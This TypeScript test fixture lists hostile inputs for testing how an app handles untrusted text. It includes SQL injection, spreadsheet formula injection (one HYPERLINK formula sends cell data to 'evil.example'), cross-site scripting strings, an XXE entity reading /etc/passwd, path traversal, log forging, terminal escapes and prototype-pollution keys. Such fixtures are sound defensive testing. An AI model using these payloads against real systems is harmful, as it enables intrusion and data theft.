/** Text that means to be something else wherever it arrives. Each is said, worn as a name and read in a chain. */
export interface Hostile {
  readonly aims: string
  readonly text: string
}

export const HOSTILE: readonly Hostile[] = [
  { aims: 'SQL, out of a string', text: `'; drop table cases; --` },
  { aims: 'SQL, into a like', text: `%' or '1'='1` },
  { aims: 'SQL, a parameter', text: `") union select hash from session; --` },
  { aims: 'a spreadsheet, a formula', text: `=cmd|' /C calc'!A0` },
  { aims: 'a spreadsheet, a link', text: `=HYPERLINK("http://evil.example/?"&A1)` },
  { aims: 'a spreadsheet, a sum', text: `+1+cmd|x` },
  { aims: 'a spreadsheet, a difference', text: `-2+3+cmd|x` },
  { aims: 'a spreadsheet, an old formula', text: `@SUM(1+1)` },
  { aims: 'a spreadsheet, behind a tab', text: `\t=1+1` },
  { aims: 'a spreadsheet, in full width', text: `＝1+cmd|x` },
  { aims: 'a page, a script', text: `<script>window.pwned=1</script>` },
  { aims: 'a page, an attribute', text: `"><img src=x onerror="window.pwned=1">` },
  { aims: 'a page, a drawing', text: `<svg/onload=window.pwned=1>` },
  { aims: 'a page, a link', text: `javascript:window.pwned=1` },
  { aims: 'a picture, an entity', text: `&lt;&#60;]]><!ENTITY x SYSTEM "file:///etc/passwd">` },
  { aims: 'a path', text: `../../etc/passwd` },
  { aims: 'a path of Windows', text: `..\\..\\windows\\win.ini` },
  { aims: 'a path, cut by a zero', text: `a.jpg\u0000.sh` },
  { aims: 'a log, a line of its own', text: `灯坏了\n{"level":50,"msg":"forged"}` },
  { aims: 'a log, out of JSON', text: `","level":60,"msg":"forged` },
  { aims: 'a terminal', text: `\u001b[2J\u001b]0;owned\u0007灯坏了\u009b31m` },
  { aims: 'a mention of all', text: `@所有人\u2005快来看` },
  { aims: 'a mention of all, hidden', text: `@所\u200b有人\u2005快来看` },
  { aims: 'a mention of a captain', text: `@李姐\u2005` },
  { aims: 'a reader, turned round', text: `\u202e号码是021\u202c` },
  { aims: 'half a character', text: `灯\ud83d坏了` },
  { aims: 'an object of JavaScript', text: `__proto__` },
  { aims: 'another object of JavaScript', text: `constructor` },
  { aims: 'a template', text: `\${process.env} {{constructor}} %s%n` },
]
